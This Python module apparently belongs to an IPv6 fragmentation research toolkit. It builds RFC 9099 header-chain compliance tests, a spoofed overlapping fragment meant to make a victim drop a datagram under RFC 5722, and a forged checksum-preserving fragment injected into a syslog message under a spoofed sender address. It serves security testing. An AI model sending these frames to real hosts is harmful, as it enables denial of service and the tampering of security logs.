"""Builders for the RFC 9099 header-chain experiments, the RFC 5722 DoS
fragment and the checksum-preserving modification attack on syslog."""

from __future__ import annotations

import enum
from dataclasses import dataclass
from ipaddress import IPv6Address
from typing import Sequence

from .checksum import checksum_compensate, checksum_preserving_shuffle, write_slot
from .models import UNIT, FragmentSpec, Mode, ModelKind, OverlapModel, TestCase
from .wire import (
    GENERIC_EXT,
    NH_AH,
    NH_DSTOPTS,
    NH_ESP,
    NH_FRAGMENT,
    NH_HOPOPTS,
    NH_NONE,
    NH_ROUTING,
    NH_UDP,
    ExtHeader,
    FragmentHeader,
    Frame,
    Ipv6Header,
    UdpDatagram,
    echo_fragments,
    parse_frame,
    serialize_packet,
)

ATTACKER = IPv6Address("fd00::66")
VICTIM = IPv6Address("fd00::2")
HOST_X = IPv6Address("fd00::1")

RFC9099_IDS = {1: 0x90990001, 2: 0x90990002}
RFC9099_ECHO_ID = 0x9099

# destination options header carried in experiment 1's last fragment: NoNextHeader + PadN
DEST_OPTS = ExtHeader(NH_DSTOPTS, NH_NONE).pack()


class Experiment(str, enum.Enum):
    INCOMPLETE_CHAIN_LATE_DEST_OPTS = "IncompleteChainWithLateDestOptions"
    EMPTY_FIRST_FRAGMENT = "EmptyFirstFragment"


class Expectation(str, enum.Enum):
    SILENT_DROP = "SilentDrop"
    PARAM_PROBLEM_TOLERATED = "ParamProblemCode3-tolerated"


class Rfc9099Verdict(str, enum.Enum):
    SILENT_DROP = "SilentDrop"
    REPLIED = "Replied"
    PARAM_PROBLEM = "ParamProblem"

    @property
    def compliant(self) -> bool:
        return self is Rfc9099Verdict.SILENT_DROP


@dataclass(frozen=True)
class Rfc9099Case:
    experiment: Experiment
    model: OverlapModel
    frames: tuple[Frame, ...]
    expected: Expectation
    identification: int


def rfc9099_model_one() -> OverlapModel:
    specs = (
        FragmentSpec("H", 0, 1, True, carries_upper_header=True),
        FragmentSpec("A", 1, 1, True, data=b"AAAAAAAA"),
        FragmentSpec("B", 2, 2, False, data=DEST_OPTS + b"BBBBBBBB", next_header=NH_DSTOPTS),
    )
    return OverlapModel("rfc9099-exp1", ModelKind.RFC9099, specs)


def rfc9099_model_two() -> OverlapModel:
    specs = (
        FragmentSpec("Z", 0, 0, True, data=b""),
        FragmentSpec("H", 0, 1, True, carries_upper_header=True),
        FragmentSpec("B", 1, 1, False, data=b"BBBBBBBB"),
    )
    return OverlapModel("rfc9099-exp2", ModelKind.RFC9099, specs)


def _experiment(n: int, model: OverlapModel, experiment: Experiment, expected: Expectation,
                src: IPv6Address, dst: IPv6Address, identification: int | None) -> Rfc9099Case:
    ident = RFC9099_IDS[n] if identification is None else identification
    frames = echo_fragments(model, src, dst, ident, RFC9099_ECHO_ID, n)
    return Rfc9099Case(experiment, model, tuple(frames), expected, ident)


def rfc9099_experiment_one(src=ATTACKER, dst=VICTIM, identification: int | None = None) -> Rfc9099Case:
    """Echo header alone at offset 0, payload at 1, Destination Options + payload at 2."""
    return _experiment(1, rfc9099_model_one(), Experiment.INCOMPLETE_CHAIN_LATE_DEST_OPTS,
                       Expectation.SILENT_DROP, IPv6Address(src), IPv6Address(dst), identification)


def rfc9099_experiment_two(src=ATTACKER, dst=VICTIM, identification: int | None = None) -> Rfc9099Case:
    """Empty offset-0 fragment, then the echo header also at offset 0, then payload at 1."""
    return _experiment(2, rfc9099_model_two(), Experiment.EMPTY_FIRST_FRAGMENT,
                       Expectation.PARAM_PROBLEM_TOLERATED, IPv6Address(src), IPv6Address(dst), identification)


def rfc9099_cases() -> list[TestCase]:
    cases = []
    for n, model in ((1, rfc9099_model_one()), (2, rfc9099_model_two())):
        cases.append(TestCase(
            model=model,
            arrival_order=tuple(range(len(model.specs))),
            mode=Mode.SINGLE,
            repetitions=1,
            identifications=(RFC9099_IDS[n],),
            case_id=model.name,
        ))
    return cases


def classify_rfc9099(observed: object) -> Rfc9099Verdict:
    text = str(observed)
    if text == "EchoReply":
        return Rfc9099Verdict.REPLIED
    if text.startswith("ParamProblem"):
        return Rfc9099Verdict.PARAM_PROBLEM
    return Rfc9099Verdict.SILENT_DROP


# RFC 8200 section 4.1 recommended order; Destination Options may appear twice
_ORDER_RANK = {NH_HOPOPTS: 0, NH_ROUTING: 2, NH_FRAGMENT: 3, NH_AH: 4, NH_ESP: 5}
_MAX_REPEATS = {NH_DSTOPTS: 2}
_UPPER_HEADER_LEN = {58: 8, NH_UDP: 8, 6: 20}


@dataclass(frozen=True)
class ChainReport:
    complete: bool
    ordered: bool
    violations: tuple[str, ...] = ()

    def __bool__(self) -> bool:
        return self.complete


def header_chain_complete(first_fragment: Frame) -> ChainReport:
    """Does this (offset-0) fragment carry the whole header chain?

    ``complete`` is true when the chain reaches an upper-layer header with
    at least its first 8 bytes present. Order and repetition problems are
    listed separately in ``violations``.
    """
    packet = parse_frame(first_fragment)
    kinds = [e.kind for e in packet.chain]
    violations = []

    if NH_HOPOPTS in kinds[1:]:
        violations.append("hop-by-hop options not directly after the IPv6 header")
    ranks = []
    for i, kind in enumerate(kinds):
        if kind == NH_DSTOPTS:
            ranks.append(1 if NH_ROUTING in kinds[i + 1:] else 6)
        else:
            ranks.append(_ORDER_RANK.get(kind, 6))
    if any(b < a for a, b in zip(ranks, ranks[1:])):
        violations.append("extension headers out of the recommended order")
    for kind in set(kinds):
        if kinds.count(kind) > _MAX_REPEATS.get(kind, 1):
            violations.append(f"extension header {kind} repeated {kinds.count(kind)} times")

    frag = packet.fragment
    final = packet.chain[-1].next_header if packet.chain else packet.header.next_header
    chain_len = sum(len(e.pack()) for e in packet.chain)
    upper_len = packet.header.payload_length - chain_len
    if frag is not None and frag.offset != 0:
        complete = False
        violations.append("not a first fragment")
    else:
        needed = _UPPER_HEADER_LEN.get(final, 1)
        complete = final not in GENERIC_EXT and final not in (NH_AH, NH_FRAGMENT, NH_NONE) and upper_len >= needed
    ordered = not any("order" in v or "hop-by-hop" in v for v in violations)
    return ChainReport(complete, ordered, tuple(violations))


def chain_spread_across_fragments(frames: Sequence[Frame]) -> bool:
    """True when a non-first fragment carries extension headers of its own."""
    for frame in frames:
        packet = parse_frame(frame)
        frag = packet.fragment
        if frag is None or frag.offset == 0:
            continue
        if frag.next_header in GENERIC_EXT or frag.next_header in (NH_AH, NH_FRAGMENT):
            return True
    return False


def rfc9099_first_fragment_ok(frames: Sequence[Frame]) -> bool:
    """Packet-level check: full chain in the offset-0 fragment and nowhere else."""
    firsts = [f for f in frames if getattr(parse_frame(f).fragment, "offset", 0) == 0]
    if not firsts or chain_spread_across_fragments(frames):
        return False
    return all(header_chain_complete(f).complete for f in firsts)


def dos_spec(span: tuple[int, int], m_flag: bool = True, label: str = "X") -> FragmentSpec:
    offset, length = span
    return FragmentSpec(label, offset, length, m_flag, data=b"X" * (length * UNIT))


def dos_overlap_fragment(
    target_id: int,
    victim_source: IPv6Address,
    span: tuple[int, int],
    dst: IPv6Address = VICTIM,
    legit: Sequence[FragmentSpec] | None = None,
    upper_next_header: int = 58,
) -> Frame:
    """A spoofed fragment that collides with the victim's datagram.

    Under RFC 5722 the receiver must then throw the whole datagram away.
    When ``legit`` geometry is given, the span is required to overlap it.
    """
    spec = dos_spec(span)
    if legit is not None and not any(spec.overlaps(s) for s in legit):
        raise ValueError(f"span {span} does not overlap the legitimate fragments")
    header = Ipv6Header(IPv6Address(victim_source), IPv6Address(dst), 44)
    frag = FragmentHeader(upper_next_header, spec.offset_units, True, target_id)
    return serialize_packet(header, (frag,), spec.data)


class Strategy(str, enum.Enum):
    SHUFFLE = "Shuffle"
    DELTA_COMPENSATION = "DeltaCompensation"


class GeometryMismatch(ValueError):
    pass


@dataclass(frozen=True)
class ForgedFragment:
    original_payload: bytes
    forged_payload: bytes
    strategy: Strategy
    slot: int | None = None
    identification: int = 0
    offset_units: int = 0
    spoofed_source: IPv6Address = HOST_X

    @property
    def length_units(self) -> int:
        return -(-len(self.forged_payload) // UNIT)


def _same_words(a: bytes, b: bytes) -> bool:
    words = lambda s: sorted(s[i:i + 2] for i in range(0, len(s), 2))  # noqa: E731
    return len(a) == len(b) and words(a) == words(b)


def forge_modification_fragment(
    original: bytes,
    strategy: Strategy | str,
    slot: int | None = None,
    seed: int | str = 0,
    desired: bytes | None = None,
) -> ForgedFragment:
    """Replacement bytes for a legitimate fragment that keep its checksum.

    Shuffle permutes 16-bit groups (``desired`` may name a specific
    permutation); DeltaCompensation writes a correcting word at ``slot`` of
    ``desired`` (default: the original).
    """
    strategy = Strategy(strategy)
    if strategy is Strategy.SHUFFLE:
        if desired is None:
            forged = checksum_preserving_shuffle(original, seed)
        elif _same_words(original, desired) and original[len(original) // 2 * 2:] == desired[len(desired) // 2 * 2:]:
            forged = desired
        else:
            raise ValueError("desired payload is not a 16-bit-group permutation of the original")
    else:
        base = original if desired is None else desired
        word = checksum_compensate(original, base, slot)
        forged = write_slot(base, slot, word)
    return ForgedFragment(original, forged, strategy, slot)


SYSLOG_LINE = (
    "Jun 1 20:47:08 git sshd[88459]: Accepted publickey for git from 10.10.10.100 "
    "port 49240 ssh2: ED25519 SHA256:vNTXCU7b6C6mqvcaH7j1/uRC5unllTpG5kCtd01xxoc"
)
SYSLOG_PORT = 514
# first fragment: UDP header + 56 message bytes; second: 56 bytes; third: the rest
SYSLOG_SPLIT = (8, 7)


def syslog_message(line: str | bytes = SYSLOG_LINE, priority: int = 43) -> bytes:
    if isinstance(line, str):
        line = line.encode()
    return f"<{priority}> ".encode() + line


def syslog_datagram(line: str | bytes = SYSLOG_LINE, src=HOST_X, dst=VICTIM,
                    sport: int = SYSLOG_PORT, dport: int = SYSLOG_PORT) -> bytes:
    return UdpDatagram(sport, dport, syslog_message(line)).pack(IPv6Address(src), IPv6Address(dst))


def syslog_fragments(datagram: bytes, split: tuple[int, int] = SYSLOG_SPLIT) -> list[bytes]:
    first, second = split
    a, b = first * UNIT, (first + second) * UNIT
    if len(datagram) <= b:
        raise GeometryMismatch(f"{len(datagram)}-byte datagram is too short for a {split} split")
    return [datagram[:a], datagram[a:b], datagram[b:]]


def forge_syslog(line: str | bytes = SYSLOG_LINE, strategy: Strategy | str = Strategy.SHUFFLE,
                 split: tuple[int, int] = SYSLOG_SPLIT, **kwargs) -> ForgedFragment:
    """Forge the second syslog fragment; ``kwargs`` go to :func:`forge_modification_fragment`."""
    original = syslog_fragments(syslog_datagram(line), split)[1]
    return forge_modification_fragment(original, strategy, **kwargs)


def syslog_attack_specs(
    line: str | bytes,
    forged: ForgedFragment,
    split: tuple[int, int] = SYSLOG_SPLIT,
    forged_first: bool = True,
    src=HOST_X,
    dst=VICTIM,
    sport: int = SYSLOG_PORT,
    dport: int = SYSLOG_PORT,
) -> list[FragmentSpec]:
    """Legitimate fragments A, B, C plus forged X, in sending order."""
    pieces = syslog_fragments(syslog_datagram(line, src, dst, sport, dport), split)
    if len(forged.forged_payload) != len(pieces[1]):
        raise GeometryMismatch(
            f"forged payload is {len(forged.forged_payload)} bytes, the second fragment {len(pieces[1])}"
        )
    first, second = split
    a = FragmentSpec("A", 0, first, True, carries_upper_header=True, data=pieces[0], next_header=NH_UDP)
    b = FragmentSpec("B", first, second, True, data=pieces[1], next_header=NH_UDP)
    x = FragmentSpec("X", first, second, True, data=forged.forged_payload, next_header=NH_UDP)
    c = FragmentSpec("C", first + second, -(-len(pieces[2]) // UNIT), False, data=pieces[2], next_header=NH_UDP)
    return [a, x, b, c] if forged_first else [a, b, x, c]


def syslog_attack_frames(
    line: str | bytes,
    forged: ForgedFragment,
    split: tuple[int, int] = SYSLOG_SPLIT,
    forged_first: bool = True,
    identification: int = 0x5EED,
    src=HOST_X,
    dst=VICTIM,
    sport: int = SYSLOG_PORT,
    dport: int = SYSLOG_PORT,
) -> list[Frame]:
    """The three legitimate fragments with the forged second one injected.

    All four carry host X's address and the same identification; the
    forged copy goes just before or just after the real second fragment.
    """
    src, dst = IPv6Address(src), IPv6Address(dst)
    specs = syslog_attack_specs(line, forged, split, forged_first, src, dst, sport, dport)
    header = Ipv6Header(src, dst, NH_FRAGMENT)
    return [
        serialize_packet(header, (FragmentHeader(NH_UDP, s.offset_units, s.m_flag, identification),), s.data)
        for s in specs
    ]


__all__ = [
    "ATTACKER", "VICTIM", "HOST_X",
    "Experiment", "Expectation", "Rfc9099Verdict", "Rfc9099Case", "ChainReport",
    "rfc9099_experiment_one", "rfc9099_experiment_two", "rfc9099_cases", "classify_rfc9099",
    "header_chain_complete", "chain_spread_across_fragments", "rfc9099_first_fragment_ok",
    "dos_spec", "dos_overlap_fragment",
    "Strategy", "GeometryMismatch", "ForgedFragment", "forge_modification_fragment",
    "SYSLOG_LINE", "syslog_message", "syslog_datagram", "syslog_fragments", "forge_syslog",
    "syslog_attack_specs", "syslog_attack_frames",
]
